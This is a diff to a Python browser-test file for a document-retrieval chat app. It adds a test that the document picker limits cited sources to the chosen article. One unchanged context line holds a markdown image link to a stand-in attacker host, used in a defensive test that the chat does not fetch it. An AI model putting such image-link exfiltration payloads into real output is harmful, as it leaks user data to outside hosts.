@@ -133,3 +133,31 @@ def test_the_users_own_message_is_plain_text_and_fetches_nothing(browser, ready_
         assert "User: When was the Ottawa Convention signed? ![s](http://attacker.invalid/?q=x) <img src=" in condense_prompt
     finally:
         ui_serve.close_all()
+
+
+def test_the_document_picker_keeps_the_answer_to_the_chosen_document(browser, ready_settings, embedder):
+    """Choose one article in the chat's settings: the sources the answer shows all come from it."""
+    from .fakes import ScriptedChatModel
+
+    engine = rag.Engine(ready_settings.model_copy(update={"llm_backend": "local"}), embedder=embedder, llm=ScriptedChatModel())
+    titles = {d["source"]: d["title"] for d in engine.documents()}
+    question = "How long is Finland's border with Russia?"
+    url = serve(engine)
+    try:
+        page = browser.new_page(viewport={"width": 1400, "height": 900})
+        for chosen in titles:
+            page.goto(url, wait_until="load")
+            page.get_by_text("Settings", exact=True).first.click()
+            picker = page.locator("#only-docs input").first
+            picker.click()
+            page.get_by_role("option", name=titles[chosen]).click()
+            page.keyboard.press("Escape")
+            box = page.locator("#chat").locator("xpath=ancestor::div[contains(@class,'column')][1]").get_by_role("textbox").first
+            box.fill(question)
+            box.press("Enter")
+            page.wait_for_selector("#sources h3:has-text('Sources') ~ .source", timeout=60_000)
+            shown = page.locator("#sources .source").all_inner_texts()
+            assert shown and all(titles[chosen] in card for card in shown), (chosen, shown)
+            assert not any(title in card for card in shown for source, title in titles.items() if source != chosen)
+    finally:
+        ui_serve.close_all()
